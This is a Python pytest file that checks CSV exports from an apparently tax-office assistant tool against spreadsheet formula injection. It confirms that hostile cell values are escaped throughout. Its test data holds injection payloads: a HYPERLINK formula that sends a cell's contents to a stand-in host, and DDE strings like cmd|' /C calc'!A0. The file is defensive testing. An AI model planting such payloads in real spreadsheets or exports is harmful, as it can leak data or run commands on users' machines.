"""Every CSV the assistant writes neutralises formula cells (OWASP CSV injection): a taxpayer,
employer or bank named ``=HYPERLINK("http://x/?"&A1)`` never reaches a spreadsheet as a formula,
and numbers (negative ones too) stay numbers."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from pathlib import Path

import pytest
from sqlalchemy import update
from sqlalchemy.engine import Engine
from sqlmodel import Session
from typer.testing import CliRunner

from bot.cli import app
from retrieval.faq import faq_csv, import_faq, parse_faq
from store.csvfile import FORMULA_STARTS, csv_text, restore_cell, safe_cell
from store.models import Employer, Institution, Staff, Taxpayer
from store.settings import get_settings
from tests.investigation.conftest import Tiny, tiny, tiny_copy  # noqa: F401  (fixtures)
from tests.matching.office import build_office

FORMULA = '=HYPERLINK("http://x/?"&A1)'
runner = CliRunner()


def assert_no_formula(path: Path) -> list[list[str]]:
    """Every cell of the file is inert; returns the rows."""
    with path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                float(cell)  # only a plain number may start with + or -
    return rows


def test_the_writer_neutralises_formula_starts_and_keeps_numbers() -> None:
    for start in FORMULA_STARTS:
        assert safe_cell(f"{start}cmd|' /C calc'!A0") == f"'{start}cmd|' /C calc'!A0"
        assert restore_cell(safe_cell(f"{start}x")) == f"{start}x"
    assert [safe_cell(v) for v in (-120000, 3.5, "-120000", "+81", "0.25", "本町", "'quoted")] == [
        -120000, 3.5, "-120000", "+81", "0.25", "本町", "'quoted",
    ]
    assert csv_text(["a", "b"], [[FORMULA, -5]]) == "a,b\n\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\",-5\n"


@pytest.fixture
def hostile_home(tiny_copy: Tiny, monkeypatch: pytest.MonkeyPatch) -> Iterator[Tiny]:  # noqa: F811
    """The tiny office with every taxpayer, employer and bank named like a formula."""
    with Session(tiny_copy.engine) as s:
        s.exec(update(Taxpayer).values(name=FORMULA, name_kana="@SUM(1+1)*cmd|' /C calc'!A0", address="+" + FORMULA))  # type: ignore[call-overload]
        s.exec(update(Employer).values(name="-" + FORMULA))  # type: ignore[call-overload]
        s.exec(update(Institution).values(name=FORMULA))  # type: ignore[call-overload]
        s.commit()
    monkeypatch.setenv("CHOSHU_HOME", str(tiny_copy.model_dir.parent))
    get_settings.cache_clear()
    yield tiny_copy
    get_settings.cache_clear()


def test_recommendations_and_hardship_csv_have_no_formula(hostile_home: Tiny, tmp_path: Path) -> None:
    ids = tmp_path / "ids.txt"
    ids.write_text("case_id\n000108\n000105\n000103\n", encoding="utf-8")
    out, hard = tmp_path / "recs.csv", tmp_path / "hardship.csv"
    result = runner.invoke(
        app,
        ["--db", hostile_home.url, "recommend", "--case-ids-file", str(ids), "--top", "5", "--out", str(out), "--hardship-out", str(hard)],
    )
    assert result.exit_code == 0, result.output
    rows = assert_no_formula(out)
    assert any("HYPERLINK" in cell for r in rows for cell in r)  # the names reached the file (inside the reasons)
    assert_no_formula(hard)


def test_the_inquiry_batch_for_banks_has_no_formula(hostile_home: Tiny, tmp_path: Path) -> None:
    out = tmp_path / "batch.csv"
    result = runner.invoke(app, ["--db", hostile_home.url, "inquiries", "--budget-yen", "100000", "--out", str(out)])
    assert result.exit_code == 0, result.output
    rows = assert_no_formula(out)
    header = rows[0]
    assert len(rows) > 1
    for row in rows[1:]:
        assert row[header.index("address")] == "'+" + FORMULA
        assert row[header.index("name_kana")].startswith("'@")
        assert row[header.index("institution_name")] == "'" + FORMULA


def test_the_assignment_table_and_summary_have_no_formula(engine: Engine, tmp_path: Path) -> None:
    build_office(engine)
    with Session(engine) as s:
        s.exec(update(Staff).values(name=FORMULA))  # type: ignore[call-overload]
        s.commit()
    out = tmp_path / "assignment.csv"
    result = runner.invoke(app, ["--db", str(engine.url), "assign", "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert_no_formula(out)
    summary = assert_no_formula(tmp_path / "assignment-summary.csv")
    assert all(row[1] == "'" + FORMULA for row in summary[1:])


def test_the_faq_export_has_no_formula_and_reads_back_the_same(tmp_path: Path) -> None:
    source = tmp_path / "faq.csv"
    source.write_text(
        f'id,question,answer,tags,cites\nQ1,"{FORMULA.replace(chr(34), chr(34) * 2)}",-1は負の数です,,\n', encoding="utf-8"
    )
    docs = parse_faq(source.read_text(encoding="utf-8"))
    exported = tmp_path / "export.csv"
    exported.write_text(faq_csv(docs), encoding="utf-8")
    rows = assert_no_formula(exported)
    assert rows[1][1] == "'" + FORMULA and rows[1][2] == "'-1は負の数です"
    again = parse_faq(exported.read_text(encoding="utf-8"))
    assert [(d.title, d.text) for d in again] == [(FORMULA, "-1は負の数です")]
    home = tmp_path / "home"
    assert import_faq(source=source, home=home) == 1
    assert_no_formula(home / "corpus" / "faq.csv")


def test_the_audit_export_has_no_formula(engine: Engine, tmp_path: Path) -> None:
    from store import audit_chain, crud
    from store.db import session_scope
    from store.security import audit_key

    audit_chain.bind_key(engine, audit_key(get_settings()))
    with session_scope(engine) as session:  # an unknown platform user whose id is a formula
        crud.write_audit(session=session, staff_id=None, user_ref=FORMULA, surface="slack", action="chat", allowed=False, detail="@" + FORMULA)
    out = tmp_path / "audit.csv"
    result = runner.invoke(app, ["--db", str(engine.url), "audit", "export", "--since", "2020-01-01", "--out", str(out)])
    assert result.exit_code == 0, result.output
    rows = assert_no_formula(out)
    header = rows[0]
    assert rows[1][header.index("user_ref")] == "'" + FORMULA and rows[1][header.index("detail")] == "'@" + FORMULA
